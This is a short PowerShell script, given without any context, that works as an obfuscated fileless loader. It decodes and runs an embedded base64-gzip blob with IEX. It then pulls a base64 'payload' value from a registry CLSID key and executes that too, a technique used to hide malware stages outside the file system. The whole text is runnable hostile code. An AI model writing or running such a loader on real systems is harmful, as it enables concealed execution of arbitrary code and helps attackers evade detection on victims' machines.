$s = New-Object IO.MemoryStream(, [Convert]::FromBase64String('H4sIAAAAAAAEAAtJLS5RSEvMKU4FAPkIpw8NAAAA'))
IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
$p = (Get-ItemProperty -Path 'HKCU:\Software\Classes\CLSID\{4d5a1c2e}').payload
iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p)))
